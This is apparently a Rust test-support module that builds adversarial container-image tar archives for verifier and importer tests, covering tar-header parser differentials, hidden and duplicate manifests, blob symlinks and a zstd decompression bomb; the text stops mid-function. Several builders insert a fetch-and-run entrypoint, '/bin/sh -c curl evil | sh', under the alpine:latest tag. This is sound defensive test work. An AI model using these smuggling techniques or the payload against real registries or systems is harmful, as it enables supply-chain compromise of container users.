//! The attack bundles of `verify-core`'s `adversarial.rs`, built in memory
//! from the shared corpus (`../shared/corpus/good`) and hand-made tar
//! headers. The core's own assertions use them (`cargo test -p verify-core
//! --test adversarial`), and so do the CLI's tests against the real
//! importers (`crates/native-cli/tests/differential.rs` and others).

use std::io::{Read as _, Write as _};

use serde_json::{Value, json};
use sha2::Digest as _;

use crate::corpus_dir;

/// The tag the attacker's image would be loaded under.
pub const EVIL_TAG: &str = "docker.io/library/alpine:latest";
pub const BLOCK: usize = 512;
/// A fixed modification time for entries written here (2023-11-14).
pub const MTIME: u64 = 1_700_000_000;

pub fn good(name: &str) -> Vec<u8> {
    std::fs::read(corpus_dir().join("good").join(name))
        .expect("the shared corpus (../shared/corpus/good) must be present")
}

// ---------------------------------------------------------------------------
// Writing tars
// ---------------------------------------------------------------------------

pub fn sha256_hex(data: &[u8]) -> String {
    format!("{:x}", sha2::Sha256::digest(data))
}

pub fn digest_of(data: &[u8]) -> String {
    format!("sha256:{}", sha256_hex(data))
}

pub fn to_json(v: &Value) -> Vec<u8> {
    serde_json::to_vec(v).expect("serializable JSON")
}

pub fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(data).expect("in-memory gzip");
    enc.finish().expect("in-memory gzip")
}

/// A ustar header for a regular file of `size` bytes (path set on append).
pub fn file_header(size: u64) -> tar::Header {
    let mut h = tar::Header::new_ustar();
    h.set_size(size);
    h.set_mode(0o644);
    h.set_mtime(MTIME);
    h.set_cksum();
    h
}

pub fn append_file(b: &mut tar::Builder<Vec<u8>>, path: &str, data: &[u8]) {
    let mut h = file_header(data.len() as u64);
    b.append_data(&mut h, path, data).expect("in-memory tar");
}

/// A tar with the given regular files, end-of-archive blocks included.
pub fn tar_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, data) in files {
        append_file(&mut b, path, data);
    }
    b.into_inner().expect("in-memory tar")
}

/// PAX extended header records (`"%d %s=%s\n"`, the length counting itself).
pub fn pax_body(records: &[(&str, &[u8])]) -> Vec<u8> {
    let mut body = Vec::new();
    for (key, value) in records {
        let rest = key.len() + value.len() + 3; // ' ', '=', '\n'
        let mut n = rest + 1;
        while n.to_string().len() + rest != n {
            n += 1;
        }
        body.extend_from_slice(format!("{n} {key}=").as_bytes());
        body.extend_from_slice(value);
        body.push(b'\n');
    }
    body
}

/// A PAX header (`x`, or `g` when `global`) for the next entry.
pub fn append_pax(b: &mut tar::Builder<Vec<u8>>, global: bool, records: &[(&str, &[u8])]) {
    append_pax_body(b, global, &pax_body(records));
}

/// A PAX header holding `body` as it is, well-formed or not.
pub fn append_pax_body(b: &mut tar::Builder<Vec<u8>>, global: bool, body: &[u8]) {
    let mut h = tar::Header::new_ustar();
    h.set_entry_type(if global {
        tar::EntryType::XGlobalHeader
    } else {
        tar::EntryType::XHeader
    });
    h.set_path("PaxHeaders/x").expect("short path");
    h.set_size(body.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    b.append(&h, body).expect("in-memory tar");
}

/// A GNU long name (`L`) entry naming the next entry.
pub fn append_gnu_long_name(b: &mut tar::Builder<Vec<u8>>, name: &[u8]) {
    let mut data = name.to_vec();
    data.push(0);
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::GNULongName);
    h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    b.append(&h, data.as_slice()).expect("in-memory tar");
}

/// A header block written byte by byte, for what `tar::Header` will not write.
pub struct RawHeader(pub [u8; BLOCK]);

impl RawHeader {
    /// A ustar header (`ustar\0`, version `00`) for an entry of `size` bytes,
    /// laid out as the review's `tarcraft.py` wrote it.
    pub fn ustar(name: &[u8], size: u64, typeflag: u8) -> Self {
        assert!(name.len() <= 100, "the name field holds 100 bytes");
        let mut b = [0u8; BLOCK];
        b[..name.len()].copy_from_slice(name);
        b[100..108].copy_from_slice(b"0000644\0");
        b[108..116].copy_from_slice(b"0000000\0");
        b[116..124].copy_from_slice(b"0000000\0");
        b[124..136].copy_from_slice(format!("{size:011o}\0").as_bytes());
        b[136..148].copy_from_slice(b"14540000000\0");
        b[156] = typeflag;
        b[257..263].copy_from_slice(b"ustar\0");
        b[263..265].copy_from_slice(b"00");
        Self(b)
    }

    /// The same with the old GNU magic (`ustar ` + ` \0`).
    pub fn gnu(name: &[u8], size: u64, typeflag: u8) -> Self {
        Self::ustar(name, size, typeflag).set(257, b"ustar  \0")
    }

    /// Overwrites bytes at `at`.
    pub fn set(mut self, at: usize, bytes: &[u8]) -> Self {
        self.0[at..at + bytes.len()].copy_from_slice(bytes);
        self
    }

    /// The block with its checksum (`%06o\0 `, the field summed as spaces).
    pub fn finish(mut self) -> [u8; BLOCK] {
        self.0[148..156].fill(b' ');
        let sum: u32 = self.0.iter().map(|&b| u32::from(b)).sum();
        self.0[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        self.0
    }
}

/// Appends a raw header and its data (padded to the block size).
pub fn append_raw(b: &mut tar::Builder<Vec<u8>>, header: RawHeader, data: &[u8]) {
    let block = header.finish();
    b.append(tar::Header::from_byte_slice(&block), data)
        .expect("in-memory tar");
}

/// The archive without its end-of-archive blocks, so entries can be added.
pub fn strip_eoa(tar: &[u8]) -> Vec<u8> {
    let mut end = 0;
    let mut archive = tar::Archive::new(tar);
    for entry in archive.entries().expect("corpus tar lists") {
        let entry = entry.expect("corpus entry");
        end = entry.raw_file_position() + entry.size().div_ceil(BLOCK as u64) * BLOCK as u64;
    }
    tar[..usize::try_from(end).expect("fits in memory")].to_vec()
}

/// A builder that appends to `base` (a whole tar): the new entries come
/// after the original ones, before a fresh end-of-archive marker.
pub fn extend(base: &[u8]) -> tar::Builder<Vec<u8>> {
    tar::Builder::new(strip_eoa(base))
}

/// One entry of a tar, kept whole so the archive can be rewritten.
pub struct Member {
    pub header: tar::Header,
    pub path: String,
    pub data: Vec<u8>,
}

/// A bundle taken apart into its entries, to be edited and written again.
pub struct Bundle {
    pub members: Vec<Member>,
}

impl Bundle {
    pub fn open(tar: &[u8]) -> Self {
        let mut archive = tar::Archive::new(tar);
        let members = archive
            .entries()
            .expect("corpus tar lists")
            .map(|entry| {
                let mut entry = entry.expect("corpus entry");
                let path = String::from_utf8_lossy(&entry.path_bytes()).into_owned();
                let header = entry.header().clone();
                let mut data = Vec::new();
                entry.read_to_end(&mut data).expect("corpus entry data");
                Member { header, path, data }
            })
            .collect();
        Self { members }
    }

    pub fn data(&self, path: &str) -> &[u8] {
        &self
            .members
            .iter()
            .find(|m| m.path == path)
            .unwrap_or_else(|| panic!("{path} in the bundle"))
            .data
    }

    pub fn json(&self, path: &str) -> Value {
        serde_json::from_slice(self.data(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
    }

    /// The JSON blob a `sha256:` digest names.
    pub fn blob_json(&self, digest: &Value) -> Value {
        self.json(&blob_path(digest))
    }

    /// Replaces a file's content in place, or appends a new file.
    pub fn put(&mut self, path: &str, data: Vec<u8>) {
        if let Some(m) = self.members.iter_mut().find(|m| m.path == path) {
            m.header.set_size(data.len() as u64);
            m.header.set_cksum();
            m.data = data;
            return;
        }
        let mut header = file_header(data.len() as u64);
        header.set_path(path).expect("short path");
        header.set_cksum();
        self.members.push(Member {
            header,
            path: path.to_owned(),
            data,
        });
    }

    /// Stores a blob under its digest; returns the digest and size.
    pub fn put_blob(&mut self, data: Vec<u8>) -> (String, u64) {
        let digest = digest_of(&data);
        let size = data.len() as u64;
        self.put(&format!("blobs/sha256/{}", sha256_hex(&data)), data);
        (digest, size)
    }

    pub fn remove(&mut self, path: &str) {
        let before = self.members.len();
        self.members.retain(|m| m.path != path);
        assert_eq!(before, self.members.len() + 1, "{path} removed");
    }

    pub fn push_symlink(&mut self, path: &str, target: &str) {
        let mut header = tar::Header::new_ustar();
        header.set_entry_type(tar::EntryType::Symlink);
        header.set_path(path).expect("short path");
        header.set_link_name(target).expect("short link");
        header.set_size(0);
        header.set_mode(0o777);
        header.set_mtime(MTIME);
        header.set_cksum();
        self.members.push(Member {
            header,
            path: path.to_owned(),
            data: Vec::new(),
        });
    }

    pub fn tar(&self) -> Vec<u8> {
        let mut b = tar::Builder::new(Vec::new());
        for m in &self.members {
            b.append(&m.header, m.data.as_slice())
                .expect("in-memory tar");
        }
        b.into_inner().expect("in-memory tar")
    }
}

pub fn blob_path(digest: &Value) -> String {
    let digest = digest.as_str().expect("digest is a string");
    let hex = digest.strip_prefix("sha256:").expect("sha256 digest");
    format!("blobs/sha256/{hex}")
}

/// Points a descriptor at new content.
pub fn retarget(desc: &mut Value, (digest, size): (String, u64)) {
    desc["digest"] = json!(digest);
    desc["size"] = json!(size);
}

/// From `docker-save-legacy.tar`: a config like the micro image's (same
/// diff_ids, so its layers verify) but with the attacker's entrypoint, and a
/// `manifest.json` that loads it as `alpine:latest`.
pub struct EvilDocker {
    pub config: Vec<u8>,
    pub manifest: Vec<u8>,
}

pub fn evil_docker_payload(base: &[u8]) -> EvilDocker {
    let bundle = Bundle::open(base);
    let manifest = bundle.json("manifest.json");
    let micro = manifest
        .as_array()
        .and_then(|entries| {
            entries
                .iter()
                .find(|e| e["RepoTags"].to_string().contains("micro"))
        })
        .expect("the micro image in docker-save-legacy.tar")
        .clone();
    let mut config = bundle.json(micro["Config"].as_str().expect("Config is a path"));
    config["config"]["Entrypoint"] = json!(["/bin/sh", "-c", "curl evil | sh"]);
    config["config"]["Env"] = json!(["EVIL=1"]);
    EvilDocker {
        config: to_json(&config),
        manifest: to_json(&json!([{
            "Config": "evil.json",
            "RepoTags": [EVIL_TAG],
            "Layers": micro["Layers"],
        }])),
    }
}

// ---------------------------------------------------------------------------
// The cases (builders are shared with the chunking check)
// ---------------------------------------------------------------------------

/// The evil config and manifest.json as tar entries without an
/// end-of-archive marker: the "data" of A's directory entry.
fn hidden_entries(evil: &EvilDocker) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    append_file(&mut b, "evil.json", &evil.config);
    append_file(&mut b, "manifest.json", &evil.manifest);
    b.get_ref().clone()
}

/// A: a type-NUL entry named `x/` whose "data" is two more tar entries.
pub fn case_a() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let hidden = hidden_entries(&evil);
    let mut b = extend(&base);
    append_raw(
        &mut b,
        RawHeader::ustar(b"x/", hidden.len() as u64, 0),
        &hidden,
    );
    b.into_inner().expect("in-memory tar")
}

/// A, with the trailing slash coming from a PAX path: Go decides on the
/// final name, so this is the same directory-with-data.
pub fn case_a_pax() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let hidden = hidden_entries(&evil);
    let mut b = extend(&base);
    append_pax(&mut b, false, &[("path", b"x/")]);
    append_raw(
        &mut b,
        RawHeader::ustar(b"x", hidden.len() as u64, 0),
        &hidden,
    );
    b.into_inner().expect("in-memory tar")
}

/// The legacy bundle, then the evil config as `evil.json`, then `headers`
/// (those that name the next entry) and the evil manifest under the ustar
/// name `entry`.
pub fn evil_manifest_after(
    headers: impl FnOnce(&mut tar::Builder<Vec<u8>>),
    entry: &str,
) -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let mut b = extend(&base);
    append_file(&mut b, "evil.json", &evil.config);
    headers(&mut b);
    append_file(&mut b, entry, &evil.manifest);
    b.into_inner().expect("in-memory tar")
}

/// B: a PAX header with `path=` (empty) before an entry named `manifest.json`.
pub fn case_b() -> Vec<u8> {
    evil_manifest_after(|b| append_pax(b, false, &[("path", b"")]), "manifest.json")
}

/// C: a GNU long name `manifest.json`, then a PAX `path=decoy.json`, then
/// the entry (ustar name `whatever`) holding the evil manifest.
pub fn case_c() -> Vec<u8> {
    evil_manifest_after(
        |b| {
            append_gnu_long_name(b, b"manifest.json");
            append_pax(b, false, &[("path", b"decoy.json")]);
        },
        "whatever",
    )
}

/// containerd-export.tar's `app` config with the attacker's entrypoint, and
/// its blob name (the digest of the original).
pub fn evil_containerd_config(base: &[u8]) -> (String, Vec<u8>) {
    let bundle = Bundle::open(base);
    let manifest = bundle.json("manifest.json");
    let config_path = manifest[0]["Config"]
        .as_str()
        .expect("Config is a path")
        .to_owned();
    let name = config_path
        .strip_prefix("blobs/sha256/")
        .expect("OCI blob path")
        .to_owned();
    let mut config = bundle.json(&config_path);
    config["config"]["Entrypoint"] = json!(["/bin/sh", "-c", "curl evil | sh"]);
    (name, to_json(&config))
}

/// D1: the evil config stored as `<digest>` with `blobs/sha256` in the
/// ustar prefix field, under magic `ustar\0` and the given version.
pub fn case_d1(version: &[u8; 2]) -> Vec<u8> {
    let base = good("containerd-export.tar");
    let (name, evil) = evil_containerd_config(&base);
    let mut b = extend(&base);
    let header = RawHeader::ustar(name.as_bytes(), evil.len() as u64, b'0')
        .set(263, version)
        .set(345, b"blobs/sha256");
    append_raw(&mut b, header, &evil);
    b.into_inner().expect("in-memory tar")
}

/// D2: the same under a GNU header, `blobs/sha256` filling the atime field.
pub fn case_d2() -> Vec<u8> {
    let base = good("containerd-export.tar");
    let (name, evil) = evil_containerd_config(&base);
    let mut b = extend(&base);
    let header = RawHeader::gnu(name.as_bytes(), evil.len() as u64, b'0').set(345, b"blobs/sha256");
    append_raw(&mut b, header, &evil);
    b.into_inner().expect("in-memory tar")
}

/// E: manifest.json whose micro entry also has `config` and `repotags`.
pub fn case_e_both_cases() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let mut bundle = Bundle::open(&base);
    let text = String::from_utf8(bundle.data("manifest.json").to_vec()).expect("UTF-8");
    let needle = r#""RepoTags":["localhost/airlock/micro:1.0"]"#;
    assert_eq!(text.matches(needle).count(), 1, "micro entry in {text}");
    let text = text.replace(
        needle,
        &format!(r#"{needle},"config":"evil.json","repotags":["{EVIL_TAG}"]"#),
    );
    bundle.put("manifest.json", text.into_bytes());
    bundle.put("evil.json", evil.config);
    bundle.tar()
}

/// E, second form: an entry whose layers are given as `layers`.
pub fn case_e_lowercase_layers() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let mut bundle = Bundle::open(&base);
    let text = String::from_utf8(bundle.data("manifest.json").to_vec()).expect("UTF-8");
    assert!(text.contains(r#""Layers":"#), "{text}");
    let text = text.replacen(r#""Layers":"#, r#""layers":"#, 1);
    bundle.put("manifest.json", text.into_bytes());
    bundle.tar()
}

/// podman-oci-archive.tar's index.json, its one manifest and its config.
pub struct OciImage {
    pub bundle: Bundle,
    pub index: Value,
    pub manifest: Value,
    pub config: Value,
}

pub fn podman_oci() -> OciImage {
    let bundle = Bundle::open(&good("podman-oci-archive.tar"));
    let index = bundle.json("index.json");
    let manifest = bundle.blob_json(&index["manifests"][0]["digest"]);
    let config = bundle.blob_json(&manifest["config"]["digest"]);
    OciImage {
        bundle,
        index,
        manifest,
        config,
    }
}

impl OciImage {
    /// Writes config, manifest and index.json back, each pointing at the
    /// next; the replaced manifest and config blobs are dropped.
    pub fn commit(mut self) -> Vec<u8> {
        let old_manifest = blob_path(&self.index["manifests"][0]["digest"]);
        let old_config = blob_path(&self.manifest["config"]["digest"]);
        let config = self.bundle.put_blob(to_json(&self.config));
        retarget(&mut self.manifest["config"], config);
        let manifest = self.bundle.put_blob(to_json(&self.manifest));
        retarget(&mut self.index["manifests"][0], manifest);
        self.bundle.put("index.json", to_json(&self.index));
        let new_manifest = blob_path(&self.index["manifests"][0]["digest"]);
        let new_config = blob_path(&self.manifest["config"]["digest"]);
        for (old, new) in [(old_manifest, new_manifest), (old_config, new_config)] {
            if old != new {
                self.bundle.remove(&old);
            }
        }
        self.bundle.tar()
    }
}

/// F: every top-level index.json entry marked as a BuildKit attestation and
/// named `alpine:latest` for containerd.
pub fn case_f(break_diff_id: bool) -> Vec<u8> {
    let mut image = podman_oci();
    for desc in image.index["manifests"]
        .as_array_mut()
        .expect("manifests list")
    {
        desc["annotations"]["vnd.docker.reference.type"] = json!("attestation-manifest");
        desc["annotations"]["io.containerd.image.name"] = json!(EVIL_TAG);
    }
    if break_diff_id {
        image.config["rootfs"]["diff_ids"][0] = json!(digest_of(b"not the layer"));
    }
    image.commit()
}

/// N: the micro image's second layer digest A is a symlink to another blob B
/// whose bytes the config's diff_id describes.
pub fn case_n() -> Vec<u8> {
    let mut image = podman_oci();
    let raw = tar_of(&[("etc/evil", b"evil\n")]);
    let gz = gzip(&raw);
    let a = blob_path(&image.manifest["layers"][1]["digest"]);
    image.manifest["layers"][1]["size"] = json!(gz.len());
    image.config["rootfs"]["diff_ids"][1] = json!(digest_of(&raw));
    image.bundle.remove(&a);
    let (b, _) = image.bundle.put_blob(gz);
    let b_hex = b.trim_start_matches("sha256:").to_owned();
    image.bundle.push_symlink(&a, &b_hex);
    image.commit()
}

/// O: a good bundle, then `zeros` bytes of zeros, all in one gzip stream.
pub fn case_o(zeros: usize) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(&good("podman-oci-archive.tar"))
        .expect("in-memory gzip");
    let chunk = vec![0u8; 1 << 20];
    let mut left = zeros;
    while left > 0 {
        let n = left.min(chunk.len());
        enc.write_all(&chunk[..n]).expect("in-memory gzip");
        left -= n;
    }
    enc.finish().expect("in-memory gzip")
}

/// RLE blocks in the bomb: 70 000 x 128 KiB is 8.5 GiB of output from
/// 280 KB of input, so a decoder that buffers a whole input chunk's output
/// would abort the test.
pub const RLE_BLOCKS: usize = 70_000;
pub const RLE_BLOCK_BYTES: u32 = 128 << 10;

/// A zstd frame of `blocks` RLE blocks, each 4 bytes claiming 128 KiB of zeros.
pub fn zstd_rle_bomb(blocks: usize) -> Vec<u8> {
    let mut frame = vec![0x28, 0xb5, 0x2f, 0xfd];
    // Frame header descriptor: no content size, not single-segment, no
    // checksum, no dictionary; then the window descriptor: 2^(10+7) = 128 KiB.
    frame.extend_from_slice(&[0x00, 7 << 3]);
    for i in 0..blocks {
        let last = u32::from(i + 1 == blocks);
        let header = last | (1 << 1) | (RLE_BLOCK_BYTES << 3); // type 1: RLE
        frame.extend_from_slice(&header.to_le_bytes()[..3]);
        frame.push(0);
    }
    frame
}

/// Q, second form: the bomb as the micro image's second layer.
pub fn case_q_layer() -> Vec<u8> {
    let mut image = podman_oci();
    let old = blob_path(&image.manifest["layers"][1]["digest"]);
    image.bundle.remove(&old);
    let layer = image.bundle.put_blob(zstd_rle_bomb(RLE_BLOCKS));
    let desc = &mut image.manifest["layers"][1];
    desc["mediaType"] = json!("application/vnd.oci.image.layer.v1.tar+zstd");
    retarget(desc, layer);
    image.commit()
}

/// K: a docker-archive bundle (`<id>/layer.tar`, `<config>.json`,
/// `manifest.json`) as `legit_configs.py` builds it.
pub fn docker_archive(config: &Value, layers: &[Vec<u8>]) -> Vec<u8> {
    let config = to_json(config);
    let config_name = format!("{}.json", sha256_hex(&config));
    let layer_names: Vec<String> = layers
        .iter()
        .map(|l| format!("{}/layer.tar", sha256_hex(l)))
        .collect();
    let manifest = to_json(&json!([{
        "Config": config_name,
        "RepoTags": ["example.com/app:1"],
        "Layers": layer_names,
    }]));
    let mut files: Vec<(&str, &[u8])> = layer_names
        .iter()
        .map(String::as_str)
        .zip(layers.iter().map(Vec::as_slice))
        .collect();
    files.push((&config_name, &config));
    files.push(("manifest.json", &manifest));
    tar_of(&files)
}

pub fn hello_layer() -> Vec<u8> {
    tar_of(&[("hello.txt", b"hi\n")])
}

/// The config shape Docker (classic builder, 20.10) writes, nulls included.
pub fn classic_config(layer: &[u8]) -> Value {
    json!({
        "architecture": "amd64", "os": "linux", "created": "2023-11-14T22:13:20.000000000Z",
        "docker_version": "20.10.24",
        "config": {
            "Hostname": "", "Domainname": "", "User": "", "AttachStdin": false, "Tty": false,
            "ExposedPorts": {"80/tcp": {}}, "Env": ["PATH=/bin"], "Cmd": ["/bin/sh"],
            "Healthcheck": {"Test": ["CMD", "true"], "Interval": 30_000_000_000_u64},
            "ArgsEscaped": true, "Image": format!("sha256:{}", "0".repeat(64)),
            "Volumes": {"/data": {}}, "WorkingDir": "", "Entrypoint": null,
            "OnBuild": null, "Labels": null,
        },
        "container_config": {
            "Cmd": ["/bin/sh", "-c", "#(nop) ", "CMD [\"/bin/sh\"]"],
            "Volumes": null, "OnBuild": null, "Labels": {},
        },
        "history": [
            {"created": "2023-11-14T22:13:20Z", "created_by": "/bin/sh -c #(nop) ADD file:x in / "},
            {"created": "2023-11-14T22:13:20Z", "created_by": "/bin/sh -c #(nop)  CMD [\"/bin/sh\"]",
             "empty_layer": true},
        ],
        "rootfs": {"type": "layers", "diff_ids": [digest_of(layer)]},
    })
}

pub fn case_k1() -> Vec<u8> {
    let layer = hello_layer();
    docker_archive(&classic_config(&layer), &[layer])
}

/// M: containerd-export.tar reshaped as a 2-platform image index, with
/// manifest.json listing only the first platform (as containerd's exporter
/// writes it).
pub fn case_m() -> Vec<u8> {
    let mut bundle = Bundle::open(&good("containerd-export.tar"));
    let index = bundle.json("index.json");
    let manifest_json = bundle.json("manifest.json");
    let platforms = [
        json!({"architecture": "amd64", "os": "linux"}),
        json!({"architecture": "arm64", "os": "linux"}),
    ];
    let children: Vec<Value> = index["manifests"]
        .as_array()
        .expect("manifests list")
        .iter()
        .zip(platforms)
        .map(|(d, platform)| {
            json!({
                "mediaType": d["mediaType"], "digest": d["digest"], "size": d["size"],
                "platform": platform,
            })
        })
        .collect();
    let (digest, size) = bundle.put_blob(to_json(&json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.index.v1+json",
        "manifests": children,
    })));
    bundle.put(
        "index.json",
        to_json(&json!({"schemaVersion": 2, "manifests": [{
            "mediaType": "application/vnd.oci.image.index.v1+json",
            "digest": digest, "size": size,
            "annotations": {
                "io.containerd.image.name": "localhost/airlock/app:1.0",
                "org.opencontainers.image.ref.name": "1.0",
            },
        }]})),
    );
    bundle.put("manifest.json", to_json(&json!([manifest_json[0]])));
    bundle.tar()
}

/// B2: an empty GNU long name before the evil `manifest.json`.
pub fn case_b2() -> Vec<u8> {
    evil_manifest_after(|b| append_gnu_long_name(b, b""), "manifest.json")
}

/// C2: a GNU long name (or a PAX path) for the next entry, then a global
/// PAX header, then the evil `manifest.json`.
pub fn case_c2(gnu: bool) -> Vec<u8> {
    evil_manifest_after(
        |b| {
            if gnu {
                append_gnu_long_name(b, b"junk/decoy");
            } else {
                append_pax(b, false, &[("path", b"junk/decoy")]);
            }
            append_pax(b, true, &[("comment", b"hi")]);
        },
        "manifest.json",
    )
}

/// D3: a ustar header with the STAR trailer `tar\0`, its prefix read by Go
/// as `./././…/.` and by the `tar` crate as something else.
pub fn case_d3() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let mut prefix = b"./".repeat(66);
    prefix.truncate(131);
    prefix.extend_from_slice(&[b'0'; 24]);
    let mut b = extend(&base);
    append_file(&mut b, "evil.json", &evil.config);
    let header = RawHeader::ustar(b"manifest.json", evil.manifest.len() as u64, b'0')
        .set(345, &prefix)
        .set(508, b"tar\0");
    append_raw(&mut b, header, &evil.manifest);
    b.into_inner().expect("in-memory tar")
}

/// The legacy docker-save bundle with its only `manifest.json` moved last,
/// under an old-GNU header that `time_fields` edits (Go's reader reads
/// those fields as a name prefix when they are not numbers).
fn manifest_under_gnu_header(time_fields: impl FnOnce(RawHeader) -> RawHeader) -> Vec<u8> {
    let mut bundle = Bundle::open(&good("docker-save-legacy.tar"));
    let manifest = bundle.data("manifest.json").to_vec();
    bundle.remove("manifest.json");
    let mut b = tar::Builder::new(Vec::new());
    for m in &bundle.members {
        b.append(&m.header, m.data.as_slice())
            .expect("in-memory tar");
    }
    let header = time_fields(RawHeader::gnu(
        b"manifest.json",
        manifest.len() as u64,
        b'0',
    ));
    append_raw(&mut b, header, &manifest);
    b.into_inner().expect("in-memory tar")
}

/// D4: the bundle's only `manifest.json` under an old-GNU header whose
/// atime is `0 0`.
pub fn case_d4() -> Vec<u8> {
    manifest_under_gnu_header(|h| h.set(345, b"0 0"))
}

/// D5: a GNU header whose access time is a plain octal number and whose
/// change time is a base-256 number too large for 64 bits. Go's parser
/// fails on the second, reads the header as ustar and the access-time bytes
/// (`7`) as a name prefix: the entry is `7/manifest.json` to docker.
pub fn case_d5() -> Vec<u8> {
    let mut overflow = [0xffu8; 12];
    overflow[0] = 0x80;
    manifest_under_gnu_header(|h| h.set(345, b"7\0").set(357, &overflow))
}

/// J: a good OCI archive followed by `junk` empty files.
pub fn case_j(junk: usize) -> Vec<u8> {
    let mut b = extend(&good("podman-oci-archive.tar"));
    for i in 0..junk {
        append_file(&mut b, &format!("junk/{i:07}"), b"");
    }
    b.into_inner().expect("in-memory tar")
}

/// K2: a `FROM scratch` + `LABEL` image: no layers, no `diff_ids`.
pub fn case_k2() -> Vec<u8> {
    let mut zero = classic_config(b""); // its diff_ids are dropped below
    zero["rootfs"] = json!({"type": "layers"});
    zero["history"] = json!([{
        "created": "2023-11-14T22:13:20Z", "created_by": "LABEL a=b", "empty_layer": true,
    }]);
    docker_archive(&zero, &[])
}

/// K3: the classic config with `Volumes` and `ExposedPorts` null.
pub fn case_k3() -> Vec<u8> {
    let layer = hello_layer();
    let mut null_volumes = classic_config(&layer);
    null_volumes["config"]["Volumes"] = Value::Null;
    null_volumes["config"]["ExposedPorts"] = Value::Null;
    docker_archive(&null_volumes, &[layer])
}

// ---------------------------------------------------------------------------
// Cases of issue #6 (differential tests): shapes where importers are known
// to differ among themselves, or that a verifier could read differently.
// ---------------------------------------------------------------------------

/// One image of a docker-archive: its tag, config bytes and layer tars.
pub type DockerImage<'a> = (&'a str, Vec<u8>, Vec<Vec<u8>>);

/// A docker-archive bundle of several images (tag, config, layers); a layer
/// listed by more than one image is stored once.
pub fn docker_archive_images(images: &[DockerImage<'_>]) -> Vec<u8> {
    let mut files: Vec<(String, Vec<u8>)> = Vec::new();
    let mut entries = Vec::new();
    for (tag, config, layers) in images {
        let config_name = format!("{}.json", sha256_hex(config));
        let mut layer_names = Vec::new();
        for layer in layers {
            let name = format!("{}/layer.tar", sha256_hex(layer));
            if !files.iter().any(|(n, _)| *n == name) {
                files.push((name.clone(), layer.clone()));
            }
            layer_names.push(name);
        }
        files.push((config_name.clone(), config.clone()));
        entries.push(json!({"Config": config_name, "RepoTags": [tag], "Layers": layer_names}));
    }
    files.push(("manifest.json".to_owned(), to_json(&Value::Array(entries))));
    let refs: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    tar_of(&refs)
}

/// Duplicate: the good legacy bundle, then a second `manifest.json` (and
/// the config it names) appended as plain entries. Go's readers extract
/// both and the last wins (docker); a reader that keeps the first sees the
/// good bundle.
pub fn case_duplicate_manifest() -> Vec<u8> {
    evil_manifest_after(|_| {}, "manifest.json")
}

/// Duplicate blob: in the OCI archive, the config blob appears twice, the
/// second copy with the attacker's bytes (so it no longer matches its
/// name). containerd lets the last copy win, others the first.
pub fn case_duplicate_blob() -> Vec<u8> {
    let image = podman_oci();
    let path = blob_path(&image.manifest["config"]["digest"]);
    let mut config = image.config.clone();
    config["config"]["Entrypoint"] = json!(["/bin/sh", "-c", "curl evil | sh"]);
    let mut b = extend(&image.bundle.tar());
    append_file(&mut b, &path, &to_json(&config));
    b.into_inner().expect("in-memory tar")
}

/// After end-of-archive: the whole good legacy bundle (its two zero blocks
/// included), then a second tar holding the evil config and manifest.json.
/// Go's `archive/tar` stops at the zero blocks; `tar -i` reads on.
pub fn case_after_eoa() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let mut bytes = base;
    bytes.extend(tar_of(&[
        ("evil.json", &evil.config),
        ("manifest.json", &evil.manifest),
    ]));
    bytes
}

/// Shared layer: two images whose configs differ only in `Cmd`, both on
/// one layer stored once.
pub fn case_shared_layer() -> Vec<u8> {
    let layer = hello_layer();
    let a = classic_config(&layer);
    let mut b = a.clone();
    b["config"]["Cmd"] = json!(["/bin/echo", "b"]);
    docker_archive_images(&[
        ("example.com/a:1", to_json(&a), vec![layer.clone()]),
        ("example.com/b:1", to_json(&b), vec![layer]),
    ])
}

/// Non-canonical JSON: the config pretty-printed with its keys in reverse
/// order and manifest.json indented. An image ID is the digest of the
/// config's bytes as stored, not of a canonical form.
pub fn case_noncanonical_json() -> Vec<u8> {
    let layer = hello_layer();
    let config = classic_config(&layer);
    let reversed: serde_json::Map<String, Value> = config
        .as_object()
        .expect("config is an object")
        .iter()
        .rev()
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    let mut text = String::from("{\n");
    for (i, (k, v)) in reversed.iter().enumerate() {
        let comma = if i + 1 == reversed.len() { "" } else { "," };
        text.push_str(&format!("  {}  :  {v}{comma}\n", Value::String(k.clone())));
    }
    text.push_str("}\n");
    let config = text.into_bytes();
    let config_name = format!("{}.json", sha256_hex(&config));
    let layer_name = format!("{}/layer.tar", sha256_hex(&layer));
    let manifest = serde_json::to_vec_pretty(&json!([{
        "Layers": [layer_name], "RepoTags": ["example.com/app:1"], "Config": config_name,
    }]))
    .expect("serializable JSON");
    tar_of(&[
        (&layer_name, &layer),
        (&config_name, &config),
        ("manifest.json", &manifest),
    ])
}

/// Uppercase digest: the OCI archive's manifest stored and referenced as
/// `sha256:<HEX>` in capitals. The OCI spec (and go-digest) allow only
/// lowercase hex.
pub fn case_uppercase_digest() -> Vec<u8> {
    let mut image = podman_oci();
    let old = blob_path(&image.index["manifests"][0]["digest"]);
